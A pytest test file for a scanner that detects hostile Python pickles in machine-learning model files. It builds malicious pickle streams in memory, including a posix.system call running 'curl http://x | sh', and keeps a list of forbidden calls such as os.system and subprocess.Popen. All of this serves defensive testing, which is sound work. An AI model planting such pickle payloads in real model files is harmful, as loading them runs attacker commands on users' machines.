"""The pickle inspector finds every hostile case, accuses no harmless one, and says what it saw."""

from __future__ import annotations

import json
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from fixtures.benign_pickles import BENIGN, Benign
from fixtures.hostile_case import DANGEROUS, EMBEDDED, OBFUSCATED, Case
from fixtures.hostile_pickles import CASES
from fixtures.pickle_assembler import built, called, made, new, old, push, stream

from aibom.components import Inspection, Use, Verdict
from aibom.files import Coverage, Format, RepoFile, Role
from aibom.findings import Severity
from aibom.inspectors.pickles import inspect
from aibom.limits import Limits
from aibom.sources.bytesource import MemorySource

REAL = Path(__file__).parents[2] / "fixtures" / "real"
ORDINARY = [
    REAL / row["path"]
    for row in json.loads((REAL / "MANIFEST.json").read_text())["files"]
    if row["kind"] == "benign-ordinary"
    and row["role"] == "fixture"
    and Path(row["path"]).suffix in {".pkl", ".pickle"}
    and (REAL / row["path"]).read_bytes()[:1] == b"\x80"
]
SHARP = sorted((REAL / "pickles" / "sharp").iterdir())
RUN = called(old("posix", "system"), "curl http://x | sh")


def look(raw: bytes, name: str = "model.pkl", limits: Limits | None = None) -> Inspection:
    file = RepoFile(path=name, size=len(raw), format=Format.PICKLE, role=Role.WEIGHTS)
    return inspect(file, MemorySource(raw), limits or Limits())


def ids(inspection: Inspection) -> set[str]:
    return {finding.rule.id for finding in inspection.findings}


def messages(inspection: Inspection) -> str:
    return "\n".join(finding.message for finding in inspection.findings)


def worst(inspection: Inspection) -> Severity:
    return min((finding.severity for finding in inspection.findings), key=lambda severity: severity.rank)


@pytest.fixture(scope="module", autouse=True)
def canary() -> Iterator[None]:
    """Fail the run if anything of a target is run, imported, opened or unpickled."""
    seen: list[str] = []
    watching = [True]
    forbidden = {"os.system", "os.exec", "os.posix_spawn", "os.fork", "subprocess.Popen", "pickle.find_class",
                 "marshal.loads", "socket.connect", "urllib.Request", "ctypes.dlopen"}  # fmt: skip

    def hook(event: str, _args: tuple[object, ...]) -> None:
        # Reading the interpreter's own compiled modules is marshal too; that has a code object's loader on the stack.
        if watching[0] and event in forbidden and not _imports():
            seen.append(event)

    sys.addaudithook(hook)
    yield
    watching[0] = False
    assert [] == seen


def _imports() -> bool:
    frame = sys._getframe()
    while frame := frame.f_back:  # type: ignore[assignment]
        if frame.f_code.co_filename.startswith("<frozen importlib"):
            return True
    return False


@pytest.mark.parametrize("case", CASES, ids=lambda case: case.name)
def test_hostile_cases_are_found(case: Case) -> None:
    """Every technique gets the findings that it calls for, at the severity of what it does."""
    inspection = look(case.build(), case.file_name)
    assert case.expected_rule_ids <= ids(inspection)
    if DANGEROUS in case.expected_rule_ids:
        assert Severity.CRITICAL == worst(inspection)
    if case.expected_rule_ids & {OBFUSCATED, EMBEDDED}:
        assert worst(inspection).at_least(Severity.HIGH)


def test_there_are_enough_hostile_cases() -> None:
    """The collection stays large, and no two cases have one name."""
    assert 200 <= len({case.name for case in CASES}) == len(CASES)


@pytest.mark.parametrize("case", BENIGN, ids=lambda case: case.name)
def test_alarming_looks_are_not_enough(case: Benign) -> None:
    """Harmless pickles get nothing above info."""
    inspection = look(case.build())
    assert Severity.INFO == worst(inspection), messages(inspection)
    assert Coverage.COMPLETE == inspection.coverage


@pytest.mark.parametrize("path", ORDINARY, ids=lambda path: str(path.relative_to(REAL)))
def test_files_of_real_libraries_are_not_accused(path: Path) -> None:
    """What libraries write in normal use gets nothing above info."""
    inspection = look(path.read_bytes(), path.name)
    assert Severity.INFO == worst(inspection), messages(inspection)
    assert Coverage.COMPLETE == inspection.coverage


@pytest.mark.parametrize("path", SHARP, ids=lambda path: path.name)
def test_embedded_code_is_high_and_not_critical(path: Path) -> None:
    """Functions by value, as dill and cloudpickle store them, are code in the file but no attack by themselves."""
    inspection = look(path.read_bytes(), path.name)
    assert Severity.CRITICAL != worst(inspection), messages(inspection)
    assert Coverage.COMPLETE == inspection.coverage


def test_a_dangerous_call_is_told_with_its_arguments() -> None:
    """The message names the callable, its arguments and what loading does; the evidence is the whole call."""
    inspection = look(stream(called(old("posix", "system"), "curl " + "x" * 100)))
    (finding,) = [finding for finding in inspection.findings if finding.rule.id == DANGEROUS]
    assert 'calls posix.system("curl ' + "x" * 55 + '…"); loading this file runs a command' == finding.message
    assert 'posix.system("curl ' + "x" * 100 + '")' == finding.evidence[0]
    assert "decompiled:\nfrom posix import system" in finding.evidence[-1]
    assert finding.location is not None
    assert len(stream(RUN)) < 200
    (use,) = inspection.imports
    assert ("posix", "system", Use.CALLED, Verdict.DANGEROUS) == (use.module, use.name, use.use, use.verdict)


def test_one_finding_for_one_cause() -> None:
    """The same global called often is one finding that says how often."""
    inspection = look(stream([RUN, RUN, RUN]))
    (finding,) = [finding for finding in inspection.findings if finding.rule.id == DANGEROUS]
    assert finding.message.endswith("(3 calls)")


def test_findings_are_capped_and_the_rest_is_counted() -> None:
    """A file with very many findings lists the worst and says how many more there are."""
    inspection = look(stream([called(new("acme", f"f{i}"), 1) for i in range(50)]), limits=Limits(findings_per_file=10))
    assert 11 == len(inspection.findings)
    assert "41 more findings" in messages(inspection)
    assert Severity.HIGH == worst(inspection)


def test_control_characters_do_not_reach_the_message() -> None:
    """Text from the file is printable when it is shown."""
    shown = messages(look(stream(called(new("posix", "system"), "\x1b[2J\n\u202ex\ud800"))))
    assert "\\x1b[2J\\n\\u202ex\\ud800" in shown


@pytest.mark.parametrize(
    ("limits", "raw"),
    [
        (Limits(pickle_opcodes=10), stream([1] * 100)),
        (Limits(pickle_objects=10), b"\x80\x04" + b"]" * 100_000 + b"."),
        (Limits(pickle_streams=2), stream(1) * 5),
    ],
)
def test_exhausted_limits_are_never_clean(limits: Limits, raw: bytes) -> None:
    """A pickle that needs more than the limits allow is incomplete, which is high."""
    inspection = look(raw, limits=limits)
    assert "inspection-incomplete" in ids(inspection)
    assert Coverage.PARTIAL == inspection.coverage


def test_what_was_found_before_a_limit_is_kept() -> None:
    """A payload before a limit is still found."""
    assert DANGEROUS in ids(look(stream([RUN, *([1] * 1000)]), limits=Limits(pickle_opcodes=100)))


def test_deep_nesting_of_loads_ends() -> None:
    """Pickles within pickles beyond the limit are refused, not followed."""
    raw = stream(1)
    for _ in range(12):
        raw = stream(called(new("pickle", "loads"), raw))
    assert Severity.CRITICAL == worst(look(raw))


def test_large_files_are_settled_by_triage() -> None:
    """A large harmless pickle is read at speed and comes out the same."""
    raw = stream([*(f"text {i}" * 10 for i in range(10_000)), called(old("collections", "OrderedDict"))], 2)
    inspection = look(raw)
    assert ["collections"] == [item.module for item in inspection.imports]
    assert {"pickle-present"} == ids(inspection)
    assert 1 == inspection.metadata["pickle:streams"]


def test_two_readings_of_a_joblib_file_count_both() -> None:
    """What joblib steps over as array bytes is what a plain unpickler runs."""
    wrapper = built(
        made(new("joblib.numpy_pickle", "NumpyArrayWrapper")),
        {"shape": (len(RUN.code) + 1,), "order": "C", "dtype": called(new("numpy", "dtype"), "u1", 0, 1)},
    )
    inspection = look(b"\x80\x04" + wrapper.code + RUN.code + b"0.")
    assert DANGEROUS in ids(inspection)


def test_the_library_writes_nothing(capsys: pytest.CaptureFixture[str]) -> None:
    """Neither the inspector nor the second opinion writes to the terminal."""
    look(stream(called(new(called(new("time", "ctime")), "system"), "x")))
    assert ("", "") == tuple(capsys.readouterr())


def test_python2_names_are_shown_as_what_is_looked_up() -> None:
    """In protocol 2 the unpickler looks `__builtin__` up as `builtins`."""
    (item,) = look(stream(old("__builtin__", "set"), 2)).imports
    assert ("builtins", "set", Verdict.SAFE) == (item.module, item.name, item.verdict)


def test_unknown_packages_are_one_finding_each() -> None:
    """Classes of one unknown package are listed together."""
    inspection = look(stream([made(new("acme.a", f"C{i}")) for i in range(5)]))
    (finding,) = [finding for finding in inspection.findings if finding.rule.id == "pickle-unknown-import"]
    assert (
        "makes objects of acme.a.C0, acme.a.C1, acme.a.C2 and 2 more, of a package that is not known" == finding.message
    )
    assert Severity.MEDIUM == finding.severity


def test_classes_of_known_families_are_info() -> None:
    """A class of a known library that is not listed is info while only its state is plain."""
    inspection = look(stream(built(made(new("sklearn.new_module", "NewModel")), {"a": 1})))
    assert Severity.INFO == worst(inspection)
    assert "sklearn.new_module.NewModel" in messages(inspection)


def test_the_use_decides() -> None:
    """A class that is safe to construct is not safe to call with arguments."""
    assert Severity.INFO == worst(look(stream(made(new("torch.nn.modules.linear", "Linear")))))
    inspection = look(stream(called(new("torch.nn.modules.linear", "Linear"), 3, 4)))
    assert "harmless only when it is not called" in messages(inspection)
    assert Severity.HIGH == worst(inspection)


def test_code_by_value_shows_the_names_it_uses() -> None:
    """A finding about embedded code lists the names that the code uses."""
    code = called(new("types", "CodeType"), 0, 0, b"", (), ("system", "popen"), ())
    (finding,) = [finding for finding in look(stream(code)).findings if finding.rule.id == EMBEDDED]
    assert "types.CodeType uses: system popen" in finding.evidence


def test_an_empty_file_is_malformed() -> None:
    """Nothing at all is no pickle."""
    assert "pickle-malformed" in ids(look(b""))


def test_memo_of_an_earlier_stream_is_followed() -> None:
    """An Unpickler that is used again keeps its memo, so a later stream may call what an earlier one stored."""
    first = b"\x80\x04" + _stored("posix", 5) + _stored("system", 6) + b"N."
    assert DANGEROUS in ids(look(first + b"\x80\x04h\x05h\x06\x93" + push(("echo",)) + b"R."))


def _stored(name: str, key: int) -> bytes:
    return push(name) + b"q" + bytes([key]) + b"0"


def test_reads_stay_within_the_source() -> None:
    """Half a gigabyte of inline data is stepped over, not read."""

    blob = 1 << 20

    class Source(MemorySource):
        read = 0

        def read_at(self, offset: int, length: int) -> bytes:
            Source.read += length
            return super().read_at(offset, length)

    raw = stream([bytes(blob) for _ in range(16)])
    file = RepoFile(path="a.pkl", size=len(raw), format=Format.PICKLE, role=Role.WEIGHTS)
    inspect(file, Source(raw), Limits())
    assert Source.read < len(raw) // 3
